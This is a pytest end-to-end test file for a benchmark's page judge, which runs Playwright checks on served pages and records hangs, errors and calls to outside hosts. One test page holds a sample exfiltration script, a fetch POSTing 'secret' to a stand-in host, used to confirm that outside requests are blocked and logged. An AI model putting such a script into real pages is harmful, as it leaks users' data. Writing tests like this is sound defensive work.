"""The judge before pages and checks that do not end: each is told in a line, and the next one is looked at."""

import socket
import textwrap
from collections.abc import Callable
from pathlib import Path

import pytest

from benchmarks.quality.judge import Verdict, judge
from benchmarks.quality.person import Infrastructure
from benchmarks.quality.task import TASKS, Check, Task, load_task
from benchmarks.quality.trees import Scene
from devkit.node.static_site import serve

pytestmark = pytest.mark.e2e
Judge = Callable[..., Verdict]

CALM = "<!doctype html><title>t</title><h1>Hello</h1>"
HELLO = """
def check_hello(site):
    expect(site.open().get_by_role("heading")).to_have_text("Hello", timeout=2000)
"""


@pytest.fixture
def judged(tmp_path: Path) -> Judge:
    def run(page: str, checks: str, names: list[str], seconds: float = 20.0, **files: str) -> Verdict:
        site = tmp_path / "site"
        site.mkdir()
        (site / "index.html").write_text(page)
        (site / "favicon.ico").write_text("")
        text = f"from playwright.sync_api import expect\n{textwrap.dedent(checks)}"
        (tmp_path / "check.py").write_text(text)
        with serve(site) as address:
            return judge(task_of(names), Scene({}), address, tmp_path / "shots", folder=tmp_path, seconds=seconds)

    return run


def task_of(names: list[str]) -> Task:
    checks = tuple(Check(id=name, title=name) for name in names)
    return load_task(TASKS / "text-and-colour").model_copy(update={"checks": checks})


def outcomes(verdict: Verdict) -> dict[str, str]:
    return {one.id: one.outcome for one in verdict.checks}


def test_a_calm_page_passes_and_has_its_pictures(judged: Judge) -> None:
    verdict = judged(CALM, HELLO, ["hello"])
    assert outcomes(verdict) == {"hello": "passed"} and not verdict.blank and verdict.errors == []
    assert [Path(shot).name for shot in verdict.shots] == ["1280.png", "390.png"]
    assert all(Path(shot).read_bytes()[:4] == b"\x89PNG" for shot in verdict.shots)


def test_a_check_that_never_ends_is_stopped_and_the_next_one_is_looked_at(judged: Judge) -> None:
    checks = "def check_endless(site):\n    while True:\n        pass\n" + HELLO
    verdict = judged(CALM, checks, ["endless", "hello"], seconds=20.0)
    assert outcomes(verdict) == {"endless": "hung", "hello": "passed"} and len(verdict.shots) == 2


def test_a_check_that_is_wrong_itself_is_broken_and_not_the_page(judged: Judge) -> None:
    verdict = judged(CALM, "def check_wrong(site):\n    raise KeyError('x')\n" + HELLO, ["wrong", "absent", "hello"])
    assert outcomes(verdict) == {"wrong": "broken", "absent": "broken", "hello": "passed"}


def test_a_page_that_opens_dialogs_for_ever_fails_in_a_line(judged: Judge) -> None:
    page = f"{CALM}<script>setTimeout(() => {{ for (;;) alert('again') }}, 0)</script>"
    checks = HELLO + "def check_gone(site):\n    site.open().get_by_role('button').click()\n"
    verdict = judged(page, checks, ["gone", "hello"], seconds=10.0)
    assert outcomes(verdict)["gone"] in ("failed", "hung") and len(verdict.checks) == 2


def test_a_page_that_spins_hangs_its_check_alone(judged: Judge) -> None:
    page = f"{CALM}<script>setTimeout(() => {{ for (;;); }}, 0)</script>"
    checks = "def check_click(site):\n    site.open().get_by_role('heading').click()\n"
    verdict = judged(page, checks, ["click"], seconds=8.0)
    assert outcomes(verdict)["click"] in ("failed", "hung")


def test_what_a_page_says_is_bounded_and_other_hosts_are_closed(judged: Judge) -> None:
    page = f"""{CALM}<img src="https://outside.example/pixel.png?x=1"><script>
      for (let n = 0; n < 500; n++) console.error('x'.repeat(20000));
      fetch('https://outside.example/send', {{method: 'POST', body: 'secret'}}).catch(() => 0);
    </script>"""
    verdict = judged(page, HELLO, ["hello"])
    assert outcomes(verdict) == {"hello": "passed"}
    assert {one.split("?")[0] for one in verdict.outside} == {
        "https://outside.example/pixel.png",
        "https://outside.example/send",
    }
    assert 0 < len(verdict.errors) <= 60 and max(map(len, verdict.errors)) <= 500


def test_a_blank_page_is_blank_and_a_thrown_error_is_told(judged: Judge) -> None:
    page = "<!doctype html><title>t</title><div id=app></div><script>throw new Error('boom')</script>"
    verdict = judged(page, "def check_any(site):\n    site.open()\n", ["any"])
    assert verdict.blank and any("boom" in error for error in verdict.errors)
    assert "the page is blank" in verdict.failures(task_of(["any"]))


def test_clock_and_chance_are_the_same_each_time(judged: Judge) -> None:
    checks = """
    def check_clock(site):
        page = site.open()
        assert page.evaluate("new Date().toISOString().slice(0, 15)") == "2026-03-02T09:3"
    def check_chance(site):
        draw = "[Math.random(), Math.random()]"
        assert site.open().evaluate(draw) == site.open().evaluate(draw)
    """
    assert outcomes(judged(CALM, checks, ["clock", "chance"])) == {"clock": "passed", "chance": "passed"}


def test_a_server_that_is_not_there_is_no_fault_of_the_page(tmp_path: Path) -> None:
    task, checks = load_task(TASKS / "text-and-colour"), tmp_path / "check.py"
    checks.write_text("def check_hello(site):\n    print('to nobody')\n    site.open()\n")
    asked = task.model_copy(update={"checks": (Check(id="hello", title="t"),)})
    with socket.create_server(("127.0.0.1", 0)) as gone:
        address = f"http://127.0.0.1:{gone.getsockname()[1]}"
    with pytest.raises(Infrastructure, match=r"hello: .*net::ERR_CONNECTION_REFUSED"):
        judge(asked, Scene({}), address, tmp_path / "shots", folder=tmp_path)
